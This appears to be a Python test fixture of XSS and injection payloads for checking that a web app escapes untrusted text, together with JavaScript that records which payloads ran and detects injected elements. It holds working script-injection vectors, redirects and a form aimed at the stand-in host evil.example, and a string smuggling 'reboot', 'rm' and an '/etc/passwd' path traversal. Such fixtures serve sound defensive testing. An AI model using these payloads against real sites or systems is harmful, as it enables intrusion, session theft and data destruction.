"""Text with which people, alerts and clusters could do harm to a page: everything that is not to run, or to break one.

What a payload would run is ``xss()``, which ``LISTEN`` lets a page tell of; what it would add is an element or an
attribute named ``pwned``. A sum that a template would work out has a result that stands nowhere else.
"""

SUM, WORKED_OUT = "7191*7193", "51724863"
RUN = "xss()"

PAYLOADS = (
    # Elements that run.
    f"<script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea></pre></code></p></table><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<details open ontoggle={RUN}><pwned>",
    f"<input autofocus onfocus={RUN}>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data=javascript:{RUN}></object>",
    f"<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror={RUN}>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    # Elements that change what the page does.
    '<base href="//evil.example/"><pwned>',
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    '<form action="//evil.example/"><button>Sign in</button></form><pwned>',
    "<style>*{display:none!important}</style>",
    '<div hx-get="/api/tokens" hx-trigger="load" pwned></div>',
    '<div data-module="graph" data-live="incident" pwned></div>',
    "<dialog open pwned>You are signed out</dialog>",
    # Out of an attribute.
    f'" autofocus onfocus="{RUN}" pwned="',
    f"' autofocus onfocus='{RUN}' pwned='",
    f"` onmouseover={RUN} pwned=",
    '"><pwned>',
    "'><pwned>",
    "--><pwned>",
    "]]><pwned>",
    # Addresses.
    f"javascript:{RUN}",
    f" \tJaVaScRiPt&colon;{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "//evil.example/x",
    # Markdown.
    f"[click](javascript:{RUN})",
    f"[click](  JAVASCRIPT&#58;{RUN})",
    f"![x](x) ![y](https://evil.example/seen.png) <img src=x onerror={RUN}>",
    f"[a]: javascript:{RUN}\n\n[a] <javascript:{RUN}>",
    f"```\n</code></pre><script>{RUN}</script>\n```",
    # Templates, scripts and JSON.
    "{{" + SUM + "}} {%- set pwned = 1 %} ${" + SUM + "} #{" + SUM + "}",
    '"}]}</script><pwned>{"a":["',
    "\\u003cpwned\\u003e \\x3cpwned\\x3e &lt;pwned&gt; &#60;pwned&#62;",
    # Text that is only hard to show.
    "\u202ereversed\u202c \u200b\u200d\ufeff zero\u200bwidth",
    "\x1b[31mred\x1b[0m \x07\x08 \x85\u2028\u2029 line",
    "W" * 190,
    "\U0001f525\U0001f468\u200d\U0001f469\u200d\U0001f467 Zalgo a\u0301\u0302\u0303\u0304\u0305\u0306\u0307",
    "%s %n %00 ../../etc/passwd; $(reboot) `reboot` | rm",
)

LISTEN = """
void (() => {
    window.ran = [];
    window.xss = () => window.ran.push(document.activeElement?.outerHTML ?? "?");
})();
"""

# What stands in the page that no template of ours puts there.
INTRUDERS = """
() => {
    const found = [];
    const never = "pwned, [pwned], iframe, object, embed, base, math, style, meta[http-equiv]";
    for (const one of document.querySelectorAll(never))
        found.push(one.outerHTML.slice(0, 200));
    for (const one of document.querySelectorAll("*")) {
        for (const {name, value} of one.attributes) {
            if (name.startsWith("on")) found.push(`${one.tagName} ${name}=${value}`);
            if (/^(href|src|action|formaction|xlink:href)$/.test(name)) {
                const {protocol, host} = URL.canParse(value, location.href)
                    ? new URL(value, location.href)
                    : {protocol: "none:", host: ""};
                // A link may lead anywhere a browser goes; nothing else may fetch or send anywhere but here.
                const isLink = one.tagName === "A" && /^(https?|mailto):$/.test(protocol);
                const isIcon = one.tagName === "LINK" && one.rel === "icon";
                const isOurs = isLink || isIcon || (host === location.host && protocol === location.protocol);
                if (!isOurs) found.push(`${one.tagName} ${name}=${protocol}//${host} ${value.slice(0, 100)}`);
            }
        }
    }
    return [...found, ...window.ran.map((where) => `ran: ${where.slice(0, 200)}`)];
}
"""


def payload(index: int) -> str:
    """Return a payload; the first again after the last."""
    return PAYLOADS[index % len(PAYLOADS)]


def all_of_them() -> str:
    """Return every payload, a paragraph each."""
    return "\n\n".join(PAYLOADS)


def visible_ones() -> tuple[str, ...]:
    """Return those whose every character is seen; a few fields refuse the others."""
    return tuple(one for one in PAYLOADS if one.replace("\n", "").isprintable())
